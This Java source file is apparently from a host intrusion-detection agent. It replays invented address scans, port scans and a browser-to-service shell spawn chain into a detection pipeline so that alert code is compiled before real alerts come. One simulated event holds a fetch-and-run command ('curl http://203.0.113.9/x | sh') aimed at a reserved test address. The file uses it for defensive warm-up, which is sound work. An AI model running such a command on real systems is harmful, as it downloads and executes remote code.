package dev.rubato.agent;

import dev.rubato.alert.AlertSink;
import dev.rubato.detect.Detector;
import dev.rubato.detect.FactSink;
import dev.rubato.detect.Pipeline;
import dev.rubato.event.Address;
import dev.rubato.event.Event;
import dev.rubato.event.Flow;
import dev.rubato.event.ProcessImage;
import dev.rubato.event.ProcessImage.Stdin;
import dev.rubato.event.ProcessKey;
import java.util.List;

/**
 * Plays invented scans and spawn chains to a pipeline of its own, so that the code of an alert is loaded and compiled
 * when the first real one comes; otherwise that one takes tenths of a second, and the twenty after it milliseconds each.
 * What comes of it goes to the given sinks alone. Owned by one thread.
 *
 * <p>A round after each collection of the whole heap does the same again: the next call of each compiled method is slow
 * then, and an alert calls some thousand.
 *
 * <p>A few rounds at the start load the code. The compiler has thousands of methods to do then, and as long as it is
 * behind it asks for more calls of each before it takes it; so most rounds are for the quiet moments after that.
 */
final class Rehearsal {
    /**
     * Rounds before anything is watched. Each has three parts: two scans and a spawn chain, with an alert of each and
     * updates.
     */
    static final int ROUNDS = 4;

    /**
     * Rounds after that. With the thresholds that {@code bin/rubato} sets, a method of ours is compiled from its
     * eightieth call on, looked at after each thirty-second; one of the JDK from the two hundredth, so if a round calls
     * it four times. What is called for each scan has eighty after 48 rounds; what is called for each chain alone is
     * loaded, and compiled if a real one calls it again and again.
     */
    static final int LATER_ROUNDS = 60;

    private static final int PARTS = 3;
    private static final int CONTACTS = 12;
    private static final long STEP_NS = 10_000_000L;

    /** Between two parts, so that each is an episode of its own. */
    private static final long PAUSE_NS = 3_600_000_000_000L;

    private static final int FIRST_PID = 1_000;
    private static final int SSH = 22;
    private static final int HTTPS = 443;
    private static final int FIRST_SERVICE_PORT = 8_081;
    private static final int SOURCE_PORTS = 50_000;

    /** The device /dev/pts/0. */
    private static final int TTY = 136 << Byte.SIZE;

    private static final Address HERE = Address.ofV4(10 << 24 | 1);
    private static final Address LOOPBACK = Address.ofV4(127 << 24 | 1);

    /** Of TEST-NET-3 (RFC 5737): no host has it. */
    private static final Address PAGE = Address.parse("203.0.113.9");

    private static final ProcessKey INIT = new ProcessKey(1, 1);

    private final int rounds;
    private final Pipeline pipeline;
    private final ProcessKey shell;
    private long timeNs = PAUSE_NS;
    private int part;
    private int nextPid = FIRST_PID;
    private long nextSocket = 1;

    /**
     * Begins one with the detectors of {@code detectors}, made anew.
     *
     * @param rounds how many {@link #goOn} plays, those that {@link #begin} did included
     */
    Rehearsal(int rounds, List<Detector.Factory> detectors, AlertSink alerts, FactSink facts) {
        this.rounds = rounds;
        pipeline = new Pipeline(detectors, alerts, facts);
        pipeline.accept(new Event.AgentStarted(timeNs, "", "", new ProcessKey(2, 1)));
        pipeline.accept(new Event.SensorStarted(timeNs, "rehearsal", Event.Visibility.EXACT, ""));
        pipeline.accept(new Event.NetworkChanged(
                timeNs, List.of(new Event.InterfaceAddress("eth0", HERE, Byte.SIZE)), List.of()));
        pipeline.accept(new Event.ProcessExecuted(
                timeNs, INIT, null, image(INIT, Stdin.NULL_DEVICE, List.of("/sbin/init")), Event.Basis.SNAPSHOT));
        ProcessKey terminal = spawn(INIT, Stdin.NULL_DEVICE, "/usr/bin/terminal");
        shell = spawn(terminal, Stdin.TERMINAL, "/usr/bin/bash");
    }

    /** Plays the first rounds. */
    void begin() {
        while (part < ROUNDS * PARTS) {
            playPart();
        }
    }

    /** Plays one more part; whether there is another. */
    boolean goOn() {
        playPart();
        return part < rounds * PARTS;
    }

    private void playPart() {
        int round = part / PARTS;
        switch (part % PARTS) {
            case 0 -> sweepOfAddresses(round);
            case 1 -> sweepOfPorts(round);
            default -> page(round);
        }
        part++;
    }

    private void sweepOfAddresses(int round) {
        ProcessKey scanner = spawn(shell, Stdin.TERMINAL, "/usr/bin/scanner", "--password", "example");
        for (int i = 1; i <= CONTACTS; i++) {
            connect(
                    scanner,
                    HERE,
                    Address.ofV4((10 << 24) | ((round + 1) << Byte.SIZE) | i),
                    SSH,
                    Event.Outcome.REFUSED);
        }
        pause();
    }

    private void sweepOfPorts(int round) {
        ProcessKey scanner = spawn(shell, Stdin.TERMINAL, "/usr/bin/scanner", "ports");
        for (int i = 1; i <= CONTACTS; i++) {
            connect(scanner, LOOPBACK, LOOPBACK, round * CONTACTS + i, Event.Outcome.REFUSED);
        }
        pause();
    }

    /**
     * A page in a browser makes a service start a shell, which goes out: each time another service, as a habit would
     * raise no alert.
     */
    private void page(int round) {
        int port = FIRST_SERVICE_PORT + round;
        ProcessKey service = spawn(shell, Stdin.TERMINAL, "/usr/bin/node", "server" + round + ".js");
        pipeline.accept(new Event.ListenerOpened(timeNs, nextSocket++, LOOPBACK, port, service, Event.Basis.EXACT));
        ProcessKey browser = spawn(shell, Stdin.NULL_DEVICE, "/usr/lib/chromium/chromium", "--headless");
        spawn(browser, Stdin.NULL_DEVICE, "/usr/lib/chromium/chromium", "--type=zygote");
        ProcessKey network = spawn(
                browser, Stdin.NULL_DEVICE, "/proc/self/exe", "--type=utility", "--utility-sub-type=network.mojom");
        connect(network, HERE, PAGE, HTTPS, Event.Outcome.ESTABLISHED);
        connect(network, LOOPBACK, LOOPBACK, port, Event.Outcome.ESTABLISHED);
        ProcessKey started = spawn(service, Stdin.PIPE, "/bin/sh", "-c", "curl http://203.0.113.9/x | sh");
        connect(started, HERE, PAGE, HTTPS, Event.Outcome.ESTABLISHED);
        pause();
    }

    private ProcessKey spawn(ProcessKey parent, Stdin stdin, String... line) {
        timeNs += STEP_NS;
        ProcessKey process = new ProcessKey(nextPid++, timeNs);
        pipeline.accept(new Event.ProcessForked(timeNs, process, parent));
        pipeline.accept(new Event.ProcessExecuted(
                timeNs, process, null, image(process, stdin, List.of(line)), Event.Basis.EXACT));
        return process;
    }

    private static ProcessImage image(ProcessKey process, Stdin stdin, List<String> line) {
        int tty = stdin == Stdin.TERMINAL ? TTY : 0;
        return new ProcessImage(line.getFirst(), line, true, "1000", process.pid(), tty, stdin, "", "/");
    }

    private void connect(ProcessKey owner, Address from, Address to, int port, Event.Outcome outcome) {
        timeNs += STEP_NS;
        long socket = nextSocket++;
        Flow flow = new Flow(Flow.Protocol.TCP, from, FIRST_PID + (int) (socket % SOURCE_PORTS), to, port);
        pipeline.accept(
                new Event.ConnectionOpened(timeNs, socket, flow, Flow.Direction.OUTBOUND, owner, Event.Basis.EXACT));
        pipeline.accept(new Event.ConnectionResolved(timeNs, socket, flow, outcome, Event.Basis.EXACT));
    }

    private void pause() {
        timeNs += PAUSE_NS;
        pipeline.accept(new Event.TimePassed(timeNs));
    }
}
